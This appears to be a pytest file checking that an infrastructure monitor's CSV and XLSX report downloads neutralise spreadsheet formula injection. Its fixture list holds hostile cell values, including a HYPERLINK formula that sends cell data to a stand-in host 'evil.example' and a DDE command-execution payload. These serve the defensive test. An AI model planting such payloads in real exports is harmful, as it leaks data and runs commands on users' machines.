"""Report downloads cannot carry a spreadsheet formula: sites named ``=HYPERLINK(…)``, ``+…``, ``-…``, ``@…``
come out of every report's CSV (through the real HTTP API) with a leading apostrophe, no cell of any CSV starts
with = + - @ TAB or CR unless it is a number, and the XLSX holds them as text, never as formulas.
On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from infra_monitor.config import Settings, WebConfig
from infra_monitor.db import make_engine
from infra_monitor.reports.document import ReportKind
from tests.web.builders import Province
from web.app import create_app

TOKEN = "t0ken-for-csv-tests"
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', "+84-cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1"]
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?(e-?\d+)?$")
TZ = ZoneInfo("Asia/Ho_Chi_Minh")


@pytest.fixture
def reports(db_url: str) -> Iterator[tuple[TestClient, str]]:
    engine = make_engine(db_url)
    province = Province.build(engine, communes=8, names=HOSTILE)
    province.intervals([province.core, *province.district_routers, *province.commune_routers])
    today = province.now.astimezone(TZ).date()
    query = f"from={(today - timedelta(days=7)).isoformat()}&to={(today + timedelta(days=1)).isoformat()}"
    app = create_app(Settings(web=WebConfig(admin_token=TOKEN)), engine)
    try:
        with TestClient(app, headers={"Authorization": f"Token {TOKEN}"}) as client:
            yield client, query
    finally:
        engine.dispose()


def _cells(zipped: bytes) -> list[str]:
    out: list[str] = []
    with zipfile.ZipFile(io.BytesIO(zipped)) as zf:
        for name in zf.namelist():
            for row in csv.reader(io.StringIO(zf.read(name).decode("utf-8-sig"))):
                out.extend(row)
    return out


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_no_report_csv_cell_is_a_formula(reports: tuple[TestClient, str], lang: str) -> None:
    client, query = reports
    everything: list[str] = []
    for kind in ReportKind:
        r = client.get(f"/api/reports/{kind.value}?{query}&format=csv&lang={lang}")
        assert r.status_code == 200, r.text
        cells = _cells(r.content)
        dangerous = [c for c in cells if c.startswith(PREFIXES) and not NUMBER.match(c)]
        assert dangerous == [], (kind, dangerous)
        everything += cells
    for name in HOSTILE:
        assert "'" + name in everything, name


def test_report_xlsx_holds_hostile_names_as_text(reports: tuple[TestClient, str]) -> None:
    client, query = reports
    r = client.get(f"/api/reports/availability?{query}&format=xlsx")
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert HOSTILE[0] in {c.value for c in cells}
